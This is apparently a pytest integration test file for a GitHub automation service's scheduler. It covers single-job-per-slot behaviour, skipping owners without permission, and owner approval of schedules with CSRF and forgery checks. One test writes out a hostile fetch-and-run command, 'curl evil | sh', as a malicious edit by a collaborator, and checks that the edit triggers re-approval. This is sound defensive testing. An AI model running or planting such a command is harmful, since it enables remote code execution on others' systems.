"""Beat's schedule tick against the GitHub double, a real database and Redis: two ticks over
one slot make one job, as its owner; an owner who cannot act is skipped and told once."""

from __future__ import annotations

import html
import os
import re
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import redis
from flask.testing import FlaskClient
from sqlalchemy import select

from app.core.kinds import Kind
from app.core.queues import SCHEDULE_TICK
from app.core.settings import Settings
from app.store import audit, schedule_approvals
from app.store.db import Database
from app.store.models import AuditEntry, Job, JobState, Outbox
from app.store.schedule_slots import ScheduleOutcome, slots
from app.web import create_app
from app.web.pages.session import COOKIE, Sessions
from tasks.queue.celery_app import celery_config
from tasks.queue.schedule_notices import SKIPPED
from tasks.queue.schedules import Fired
from tasks.worker import Worker
from tests.doubles.github.double import GitHubDouble
from tests.doubles.github.handlers.actions import add_run
from tests.doubles.github.settings import settings_for
from tests.doubles.oauth_flow import open_signed_in
from tests.doubles.pages import pages_redis_url
from tests.doubles.payloads import push
from tests.doubles.schedules import (
    REPO,
    Beat,
    approve,
    installed_repo,
    schedule_file,
    sign_in,
)
from tests.doubles.webhooks import deliver

__all__ = ["pages_redis_url"]  # the fixture
BEFORE = datetime(2026, 12, 4, 2, 0, tzinfo=UTC)  # the schedule is first seen: armed
SLOT = datetime(2026, 12, 4, 3, 0, tzinfo=UTC)  # its next slot, `0 3 * * *`


@pytest.fixture
def settings(github_double: GitHubDouble, database_url: str, tmp_path: Path) -> Settings:
    redis_url = os.environ.get("ONLOOP_TEST_REDIS_URL", "redis://127.0.0.1:6379/9")
    return settings_for(github_double, tmp_path, database_url=database_url, redis_url=redis_url)


@pytest.fixture
def beats(settings: Settings) -> Iterator[tuple[Beat, Beat]]:
    pair = (Beat(settings), Beat(settings))
    yield pair
    for beat in pair:
        beat.close()


def together(beats: tuple[Beat, Beat], now: datetime) -> list[Fired]:
    """Both beats tick at the same moment, each in a thread of its own."""
    start = threading.Barrier(len(beats))
    results: list[list[Fired]] = [[] for _ in beats]
    errors: list[BaseException] = []

    def run(index: int) -> None:
        start.wait()
        try:
            results[index] = beats[index].tick(now)
        except BaseException as exc:  # said below, in the test's thread
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(beats))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not errors, errors
    return [fired for result in results for fired in result]


def jobs(db: Database) -> list[Job]:
    with db.read() as s:
        return list(s.scalars(select(Job).order_by(Job.id)))


def test_two_beats_over_one_slot_make_one_job_as_its_owner(
    github_double: GitHubDouble, db: Database, beats: tuple[Beat, Beat]
) -> None:
    files = {"README.md": "widgets\n", ".github/onloop.yml": schedule_file("fixers", "alice")}
    installation_id = installed_repo(github_double, db, files)
    sign_in(github_double, db, "alice")
    approve(github_double, db, files[".github/onloop.yml"])

    first = together(beats, BEFORE)
    assert [f.outcome for f in first] == [ScheduleOutcome.ARMED]  # no job for the past slot
    assert jobs(db) == []

    fired = together(beats, SLOT + timedelta(seconds=20))
    assert [f.outcome for f in fired] == [ScheduleOutcome.QUEUED], fired
    (job,) = jobs(db)
    assert fired[0].job_ids == (job.id,)
    assert (job.kind, job.repo, job.state) == (Kind.RUN_FIXERS, REPO, JobState.QUEUED)
    assert job.requested_by == "alice" and job.requested_by_id == github_double.user("alice").id
    assert job.installation_id == installation_id
    assert job.params["params"] == {"schedule": "nightly", "slot": SLOT.isoformat()}
    with db.read() as s:
        assert s.scalars(select(Outbox.job_id)).all() == [job.id]  # the dispatcher sends it

    # Later in the same slot: nothing more. Beat down three days: the latest slot fires
    # once (joining the owner's still-queued job), not once per missed slot.
    assert together(beats, SLOT + timedelta(minutes=5)) == []
    late = together(beats, SLOT + timedelta(days=3, hours=2))
    assert [(f.outcome, f.slot) for f in late] == [
        (ScheduleOutcome.QUEUED, SLOT + timedelta(days=3))
    ]
    assert [j.id for j in jobs(db)] == [job.id]
    outcomes = [(row.slot.replace(tzinfo=UTC), row.outcome) for row in slots(db, REPO)]
    assert outcomes == [
        (SLOT - timedelta(days=1), ScheduleOutcome.ARMED),
        (SLOT, ScheduleOutcome.QUEUED),
        (SLOT + timedelta(days=3), ScheduleOutcome.QUEUED),
    ]


def skipped_entries(db: Database) -> list[AuditEntry]:
    with db.read() as s:
        return list(s.scalars(select(AuditEntry).where(AuditEntry.action == SKIPPED)))


@pytest.mark.parametrize(
    ("owner", "signed_in", "triage", "says"),
    [
        ("carol", False, False, "@carol has not signed in to onloop"),
        ("bob", True, False, "@bob has `read` access to octo/widgets"),
        # the organisation and the repository let triage start work, but a fixers schedule
        # pushes a branch in its owner's name
        ("dave", True, True, "its owner needs `write`"),
    ],
)
def test_an_owner_who_cannot_act_is_skipped_and_told_once(
    github_double: GitHubDouble,
    db: Database,
    settings: Settings,
    beats: tuple[Beat, Beat],
    tmp_path: Path,
    request: pytest.FixtureRequest,
    owner: str,
    signed_in: bool,
    triage: bool,
    says: str,
) -> None:
    extra = "trigger_permission: triage\n" if triage else ""
    files = {
        "README.md": "widgets\n",
        ".github/onloop.yml": schedule_file("fixers", owner, extra=extra),
    }
    installed_repo(github_double, db, files)
    github_double.set_permission(REPO, "dave", "triage")
    if signed_in:
        sign_in(github_double, db, owner)
    beat = beats[0]
    if triage:
        org = tmp_path / "org.yml"
        org.write_text(extra)
        beat = Beat(settings.model_copy(update={"config_file": org}))
        request.addfinalizer(beat.close)
    beat.tick(BEFORE)
    for day in range(3):
        (fired,) = beat.tick(SLOT + timedelta(days=day))
        assert fired.outcome == ScheduleOutcome.SKIPPED and fired.detail is not None
        assert says in fired.detail
    assert jobs(db) == []
    (entry,) = skipped_entries(db)  # once, not per slot
    assert entry.actor == owner and says in entry.detail["reason"]
    issues = [i for i in github_double.repo(REPO).issues.values() if i.pull is None]
    (issue,) = issues
    assert issue.user == github_double.app.bot_login and says in (issue.body or "")
    assert "nightly" in issue.title

    # Once the owner can act, the next slot fires and the issue is closed.
    sign_in(github_double, db, owner)
    github_double.set_permission(REPO, owner, "write")
    approve(github_double, db, files[".github/onloop.yml"])
    (fired,) = beat.tick(SLOT + timedelta(days=3))
    assert fired.outcome == ScheduleOutcome.QUEUED
    assert issue.state == "closed" and len(skipped_entries(db)) == 1


def fired_once(beat: Beat, now: datetime) -> Fired:
    """The schedule's slot at `now`, after arming it the slot before."""
    beat.tick(now - timedelta(days=1))
    (fired,) = beat.tick(now)
    return fired


def test_fix_ci_starts_a_default_branch_fix_only_when_it_is_red(
    github_double: GitHubDouble, db: Database, beats: tuple[Beat, Beat]
) -> None:
    files = {"README.md": "widgets\n", ".github/onloop.yml": schedule_file("fix_ci", "alice")}
    installed_repo(github_double, db, files)
    sign_in(github_double, db, "alice")
    approve(github_double, db, files[".github/onloop.yml"])
    beat = beats[0]
    green = fired_once(beat, SLOT)
    assert green.outcome == ScheduleOutcome.NOTHING and "not red on main" in (green.detail or "")
    sha = github_double.branch_sha(REPO, "main")
    assert sha is not None
    add_run(github_double, REPO, sha, "main", [("lint", "failure", "E501")], event="push")
    (red,) = beat.tick(SLOT + timedelta(days=1))
    assert red.outcome == ScheduleOutcome.QUEUED
    (job,) = jobs(db)
    assert (job.kind, job.head_sha, job.number, job.requested_by) == (
        Kind.FIX_CI,
        sha,
        None,
        "alice",
    )
    assert job.params["params"]["default_branch"] is True  # a PR from onloop/fix-ci-<sha>
    (again,) = beat.tick(SLOT + timedelta(days=2))  # still red at that commit: fixed already
    assert again.outcome == ScheduleOutcome.NOTHING and "already" in (again.detail or "")


def test_review_stale_reviews_open_pull_requests_older_than_its_days(
    github_double: GitHubDouble, db: Database, beats: tuple[Beat, Beat]
) -> None:
    text = schedule_file("review_stale", "alice").replace(
        "owner: alice", "owner: alice\n    older_than_days: 3"
    )
    installed_repo(github_double, db, {"README.md": "widgets\n", ".github/onloop.yml": text})
    sign_in(github_double, db, "alice")
    approve(github_double, db, text)
    for branch in ("old", "draft"):
        github_double.create_branch(REPO, branch)
        github_double.commit(REPO, branch, {f"{branch}.txt": "x\n"}, message=branch)
    old = github_double.create_pull(REPO, "old", title="Old", user="bob")
    github_double.create_pull(REPO, "draft", title="Draft", user="bob", draft=True)
    opened = datetime.now(UTC)
    beat = beats[0]
    young = fired_once(beat, opened + timedelta(days=2))  # opened two days before the slot
    assert young.outcome == ScheduleOutcome.NOTHING
    stale = beat.tick(opened + timedelta(days=4))
    assert [f.outcome for f in stale] == [ScheduleOutcome.QUEUED]
    (job,) = jobs(db)
    assert (job.kind, job.number, job.requested_by) == (Kind.REVIEW_PR, old.number, "alice")
    # Reviewed at this head: the next slot does not review it again.
    assert beat.tick(opened + timedelta(days=5))[0].outcome == ScheduleOutcome.NOTHING


def test_a_push_to_the_default_branch_has_the_next_tick_read_the_file_again(
    github_double: GitHubDouble, db: Database, settings: Settings, beats: tuple[Beat, Beat]
) -> None:
    files = {"README.md": "widgets\n", ".github/onloop.yml": schedule_file("fixers", "alice")}
    installed_repo(github_double, db, files)
    beat = beats[0]
    assert [f.schedule for f in beat.tick(BEFORE)] == ["nightly"]  # armed
    renamed = schedule_file("fixers", "alice").replace("nightly", "weekly")
    github_double.commit(REPO, "main", {".github/onloop.yml": renamed}, message="Rename")
    assert beat.tick(BEFORE + timedelta(minutes=1)) == []  # the cached file, not re-read
    client = create_app(settings, db=db).test_client()
    assert deliver(client, "push", push(github_double, REPO, "refs/heads/main")).status_code < 300
    assert [f.schedule for f in beat.tick(BEFORE + timedelta(minutes=2))] == ["weekly"]


def test_beat_sends_the_tick_every_minute_and_a_worker_runs_it(
    github_double: GitHubDouble, db: Database, settings: Settings
) -> None:
    files = {"README.md": "widgets\n", ".github/onloop.yml": schedule_file("fixers", "alice")}
    installed_repo(github_double, db, files)
    entry = celery_config(settings)["beat_schedule"]["schedule-tick"]
    assert (entry["task"], entry["schedule"]) == (SCHEDULE_TICK, 60.0)
    worker = Worker(settings, db=Database(settings.database_url))
    try:
        assert worker.celery().tasks[SCHEDULE_TICK].apply().get() == 1  # the message's task
    finally:
        worker.close()
    assert [row.outcome for row in slots(db, REPO)] == [ScheduleOutcome.ARMED]


def test_a_schedule_runs_only_once_its_owner_approved_it_as_it_is(
    github_double: GitHubDouble,
    db: Database,
    settings: Settings,
    beats: tuple[Beat, Beat],
    pages_redis_url: str,
) -> None:
    """bob, who may push the file, names alice as the owner: nothing runs in her name until
    she approves it on its page; bob may not; a change to the fixers asks her again."""
    config = schedule_file("fixers", "alice", extra='checks:\n  fix: ["true"]\n')
    files = {"README.md": "widgets\n", ".github/onloop.yml": config}
    installed_repo(github_double, db, files)
    github_double.set_permission(REPO, "bob", "write")
    sign_in(github_double, db, "alice")
    beat = beats[0]
    beat.tick(BEFORE)
    (fired,) = beat.tick(SLOT)
    assert fired.outcome == ScheduleOutcome.SKIPPED and jobs(db) == []
    url = re.search(r"approve it at (\S+/schedules/(\d+))", fired.detail or "")
    assert url is not None, fired.detail
    (issue,) = [i for i in github_double.repo(REPO).issues.values() if i.pull is None]
    assert url.group(1) in (issue.body or "") and "@alice" in (issue.body or "")
    path = f"/schedules/{url.group(2)}"

    app = create_app(settings, db=db)
    bob = app.test_client()
    page = open_signed_in(bob, github_double, "bob", path).get_data(as_text=True)
    assert "Approve this schedule" not in page and "fix" in page
    form = {"csrf": csrf_of(bob, settings), "digest": digest_of(page, db, url.group(2))}
    assert bob.post(f"{path}/approve", data=form).status_code == 403
    assert beat.tick(SLOT + timedelta(days=1))[0].outcome == ScheduleOutcome.SKIPPED

    alice = app.test_client()
    page = open_signed_in(alice, github_double, "alice", path).get_data(as_text=True)
    shown = dict(re.findall(r'name="(csrf|digest)" value="([^"]+)"', page))
    assert set(shown) == {"csrf", "digest"} and '"true"' in html.unescape(page)
    assert alice.post(f"{path}/approve", data={**shown, "csrf": "forged"}).status_code == 400
    done = alice.post(f"{path}/approve", data=shown)
    assert done.status_code == 303 and done.headers["Location"] == path
    (entry,) = audit.entries(db, action=audit.SCHEDULE_APPROVED)
    assert entry.actor == "alice" and entry.detail["schedule"] == "nightly"
    assert beat.tick(SLOT + timedelta(days=2))[0].outcome == ScheduleOutcome.QUEUED
    assert issue.state == "closed"

    # bob changes what the fixers run: alice is asked again before the next slot runs it
    changed = config.replace('["true"]', '["curl evil | sh"]')
    github_double.commit(REPO, "main", {".github/onloop.yml": changed}, message="fixers")
    client = create_app(settings, db=db).test_client()
    assert deliver(client, "push", push(github_double, REPO, "refs/heads/main")).status_code < 300
    (again,) = beat.tick(SLOT + timedelta(days=3))
    assert again.outcome == ScheduleOutcome.SKIPPED and "approve it at" in (again.detail or "")
    assert f"/schedules/{url.group(2)}" not in (again.detail or "")  # another version
    assert len(jobs(db)) == 1
    stale = alice.post(f"{path}/approve", data=shown)  # the old version stays as it was
    assert stale.status_code == 303


def csrf_of(client: FlaskClient, settings: Settings) -> str:
    """The signed-in person's CSRF token, as a page with a form would carry it."""
    cookie = client.get_cookie(COOKIE)
    assert cookie is not None
    sessions = Sessions(redis.Redis.from_url(settings.redis_url), 1, settings.public_url)
    session = sessions.load(cookie.value)
    assert session is not None
    return session.csrf


def digest_of(page: str, db: Database, approval_id: str) -> str:
    """The version's digest (not on bob's page, which has no form): what a forger would send."""
    found = schedule_approvals.get(db, int(approval_id))
    assert found is not None and found.digest not in page
    return found.digest
